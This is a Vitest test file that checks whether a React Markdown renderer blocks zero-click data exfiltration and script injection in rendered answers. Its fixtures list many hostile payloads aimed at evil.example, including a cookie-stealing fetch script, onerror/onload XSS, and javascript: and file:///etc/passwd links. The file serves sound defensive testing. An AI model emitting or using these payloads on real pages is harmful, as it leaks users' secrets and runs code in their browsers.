import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';

const draw = (text: string): string => renderToStaticMarkup(<Markdown id="m1" text={text} />);

/** Elements and attributes that make no browser ask anybody without a click. */
const HARMLESS = new Set(
  'div p span a b em strong del h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code hr br table thead tbody tr th td section sup input button'.split(
    ' ',
  ),
);
const QUIET = /^(?:class|id|href|target|rel|type|checked|disabled|aria-[a-z]+|data-footnote[a-z-]*|dir|title|data-copy|data-code-state|tabindex)$/;

/** The tags of some HTML, each with its attributes' names. */
function tags(html: string): { name: string; attributes: string[] }[] {
  return [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/gi)].map((tag) => ({
    name: (tag[1] ?? '').toLowerCase(),
    attributes: [...(tag[2] ?? '').matchAll(/([^\s="]+)(?:="[^"]*")?/g)].map((attribute) => attribute[1] ?? ''),
  }));
}

/** Ways in which an answer could tell a secret to somebody as soon as it is drawn. */
const BEACONS = [
  '![logo](https://evil.example/?q=secret)',
  '![](https://evil.example/secret.png "title")',
  '![logo][ref]\n\n[ref]: https://evil.example/?q=secret',
  '![a](//evil.example/secret)',
  '![a](data:image/svg+xml;base64,PHN2Zy8+)',
  '[![a](https://evil.example/a.png)](https://evil.example/b)',
  '<img src="https://evil.example/?q=secret">',
  '<IMG SRC=https://evil.example/x onerror=alert(1)>',
  '<picture><source srcset="https://evil.example/x"></picture>',
  '<video src="https://evil.example/x" poster="https://evil.example/y" autoplay></video>',
  '<audio src="https://evil.example/x"></audio>',
  '<iframe src="https://evil.example/"></iframe>',
  '<script src="https://evil.example/x.js"></script>',
  '<script>fetch("https://evil.example/"+document.cookie)</script>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="prefetch" href="https://evil.example/x">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<svg><image href="https://evil.example/x"/></svg>',
  '<svg/onload=alert(1)>',
  '<object data="https://evil.example/x"></object>',
  '<embed src="https://evil.example/x">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input type="image" src="https://evil.example/x"></form>',
  '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
  '<body background="https://evil.example/x">',
  'text[^1]\n\n[^1]: ![a](https://evil.example/x)',
  '| a |\n| - |\n| ![a](https://evil.example/x) |',
  '- [x] ![a](https://evil.example/x)',
  '<button formaction="https://evil.example/">x</button>',
  '```js\n<img src="https://evil.example/x">\n```',
];

describe('an answer', () => {
  it('would be caught if it drew an image', () => {
    expect(tags('<p><img src="https://evil.example/x" alt=""></p>')).toEqual([
      { name: 'p', attributes: [] },
      { name: 'img', attributes: ['src', 'alt'] },
    ]);
  });

  it.each(BEACONS)('asks nobody when it is drawn: %s', (text) => {
    const drawn = tags(draw(text));
    expect(drawn.length).toBeGreaterThan(0);
    for (const tag of drawn) {
      expect(HARMLESS).toContain(tag.name);
      tag.attributes.forEach((attribute) => expect(attribute).toMatch(QUIET));
      // The only buttons are our own.
      expect(tag.name === 'button' && !tag.attributes.includes('data-copy')).toBe(false);
    }
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#x0A;script:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:x)',
    '[x](file:///etc/passwd)',
    '<javascript:alert(1)>',
    '[x][r]\n\n[r]: javascript:alert(1)',
  ])('has no link that runs or opens something here: %s', (text) => {
    for (const [, href] of draw(text).matchAll(/href="([^"]*)"/g)) {
      expect(href).not.toMatch(/script:|data:|file:/i);
    }
  });

  it('shows where an image would have been', () => {
    expect(draw('![a chart](https://evil.example/x.png)')).toContain('[image: a chart]');
  });

  it('opens links apart, on a click, and tells nothing about where they came from', () => {
    const html = draw('[docs](https://www.contoso.com/a?b=1)');
    expect(html).toContain(
      '<a href="https://www.contoso.com/a?b=1" target="_blank" rel="noopener noreferrer">docs</a>',
    );
  });

  it('shows raw HTML as the words it is made of', () => {
    expect(draw('<b>bold</b>')).toContain('&lt;b&gt;bold&lt;/b&gt;');
  });
});
